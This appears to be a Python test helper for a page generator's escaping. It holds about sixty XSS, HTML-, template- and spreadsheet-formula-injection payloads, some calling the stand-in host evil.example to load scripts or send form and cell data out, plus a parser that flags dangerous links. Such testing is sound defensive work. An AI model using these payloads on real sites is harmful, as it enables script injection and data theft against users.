"""Texts that would be a piece of a page, a script or a command if anything let them through."""

import json
import re
from collections.abc import Iterator, Sequence
from html.parser import HTMLParser
from itertools import cycle
from typing import Final

PAYLOADS: Final = tuple(
    line.replace("\\t", "\t").replace("\\0", "\u200b")
    for line in r"""
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
"><script>alert(2)</script>
'><script>alert(3)</script>
</title><script>alert(4)</script>
</textarea><script>alert(5)</script>
</script><script>alert(6)</script>
</style><script>alert(7)</script>
</svg><script>alert(8)</script>
</option></select><img src=x onerror=alert(9)>
<img src=x onerror=alert(10)>
<img src="x" onerror="alert(11)">
<img/src=x/onerror=alert(12)>
<svg onload=alert(13)>
<svg/onload=alert(14)>
<svg><script>alert(15)</script></svg>
<svg><a xlink:href="javascript:alert(16)"><text y=9>x</text></a></svg>
<svg><animate onbegin=alert(17) attributeName=x dur=1s>
<math><mtext></form><form><mglyph><style></math><img src onerror=alert(18)>
<body onload=alert(19)>
<iframe src="javascript:alert(20)"></iframe>
<iframe srcdoc="<script>alert(21)</script>"></iframe>
<object data="data:text/html,<script>alert(22)</script>"></object>
<embed src="javascript:alert(23)">
<base href="//evil.example/">
<meta http-equiv="refresh" content="0;url=//evil.example/">
<link rel=stylesheet href="//evil.example/x.css">
<style>@import "//evil.example/x.css";</style>
<form action="//evil.example/"><input name=passphrase></form>
<button formaction="javascript:alert(30)">Go
<details open ontoggle=alert(31)>
<video><source onerror=alert(32)>
<audio src=x onerror=alert(33)>
<input autofocus onfocus=alert(34)>
<select autofocus onfocus=alert(35)>
<marquee onstart=alert(36)>
<a href="javascript:alert(37)">x</a>
<a href=" java\tscript:alert(38)">x</a>
javascript:alert(39)
data:text/html,<script>alert(40)</script>
" onmouseover="alert(41)
' onmouseover='alert(42)
" autofocus onfocus=alert(43) x="
x onmouseover=alert(44)
" style="position:fixed;inset:0
" hx-get="/organizer" hx-trigger="load
" data-point="serial" hidden="
` onmouseover=alert(48) `
<!-- --!><script>alert(49)</script>
<![CDATA[<script>alert(50)</script>]]>
<?xml version="1.0"?><x onload=alert(51)/>
&lt;script&gt;alert(52)&lt;/script&gt;
&#60;script&#62;alert(53)&#60;/script&#62;
\u003cscript\u003ealert(54)\u003c/script\u003e
{{7*7}}{{config}}
{% for x in ().__class__.__base__.__subclasses__() %}x{% endfor %}
${7*7}#{7*7}<%= 7*7 %>
%3Cscript%3Ealert(58)%3C/script%3E
＜script＞alert(59)＜/script＞
<\0script>alert(60)</\0script>
=HYPERLINK("//evil.example/?"&A1,"x")
""".strip().splitlines()
)
_TEXT: Final = re.compile(r'^(title|about|author|licence|ask|label) = "[^"]*"$', re.MULTILINE)
_LEADS: Final = frozenset({"href", "src", "action", "formaction", "xlink:href", "data", "poster"})
_FROM_ELSEWHERE: Final = ("javascript:", "data:", "vbscript:", "//")
Shape = tuple[str, tuple[str, ...]]


def tame(payload: str) -> str:
    """Return a text of the same words and lengths that no parser takes for anything."""
    return "".join(char if char.isalnum() or char in " /" else "x" for char in payload)


class Texts:
    """Hands the payloads out, one a place, over and over; notes which were handed out."""

    def __init__(self, payloads: Sequence[str], *, first: int = 0) -> None:
        self._next: Iterator[str] = cycle([*payloads[first:], *payloads[:first]])
        self.given: list[str] = []

    def __call__(self) -> str:
        """Return the next one."""
        self.given.append(next(self._next))
        return self.given[-1]

    def reference(self, text: str) -> str:
        """Return a reference with one of them in each of its texts."""
        return _TEXT.sub(lambda found: f"{found[1]} = {json.dumps(self())}", text)


class Reading(HTMLParser):
    """What a parser makes of a page: elements with their attributes' names, and every text."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.shapes: list[Shape] = []
        self.texts: list[str] = []
        self.leads: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note an element."""
        self.shapes.append((tag, tuple(sorted(name for name, _ in attrs))))
        for name, value in attrs:
            self.texts.append(value or "")
            led = re.sub(r"[\s\0]", "", value or "").lower()
            if name in _LEADS and led.startswith(_FROM_ELSEWHERE):
                self.leads.append(f"{tag} {name}={value}")

    def handle_data(self, data: str) -> None:
        """Note a text."""
        self.texts.append(data)

    def handle_comment(self, data: str) -> None:  # noqa: ARG002
        """Note a comment: our pages have none."""
        self.shapes.append(("!--", ()))

    def handle_decl(self, decl: str) -> None:  # noqa: ARG002
        """Note a declaration."""
        self.shapes.append(("!", ()))

    def unknown_decl(self, data: str) -> None:  # noqa: ARG002
        """Note what is none."""
        self.shapes.append(("![", ()))

    def handle_pi(self, data: str) -> None:  # noqa: ARG002
        """Note an instruction: our pages have none."""
        self.shapes.append(("?", ()))
